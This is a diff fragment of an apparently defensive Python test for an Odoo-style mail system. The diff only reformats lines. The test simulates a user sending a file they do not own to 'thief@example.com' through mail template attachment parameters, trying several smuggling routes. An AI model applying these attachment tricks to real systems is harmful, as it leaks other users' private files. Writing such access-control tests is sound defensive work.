@@ -106,13 +106,17 @@ class TestAttackBeside(SharingCase):
             own = env["mail.message"].create({"body": "x"})
             link = {"attachment_ids": [(4, file.id)]}
             model = self.env.ref("base.model_res_partner").id
-            template = self.env["mail.template"].create({"name": "x", "model_id": model})
+            template = self.env["mail.template"].create(
+                {"name": "x", "model_id": model}
+            )
             template = template.with_env(env)
             planted = template.with_context(default_attachment_ids=file.ids)
             to = {"email_to": "thief@example.com"}
             mails = self.env["mail.mail"].search([])
             for name, way in {
-                "command": lambda: template.send_mail(me.id, email_values={**to, **link}),
+                "command": lambda: template.send_mail(
+                    me.id, email_values={**to, **link}
+                ),
                 "ids": lambda: template.send_mail(
                     me.id, email_values={**to, "attachment_ids": file.ids}
                 ),
